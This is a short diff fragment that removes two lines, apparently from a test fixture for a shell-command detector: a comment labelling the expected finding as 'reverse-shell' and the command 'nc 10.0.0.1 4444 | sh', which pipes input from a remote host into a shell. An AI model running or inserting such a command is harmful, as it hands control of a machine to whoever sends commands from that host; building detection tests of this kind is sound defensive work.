@@ -1,2 +1,0 @@
-# expect: reverse-shell
-nc 10.0.0.1 4444 | sh
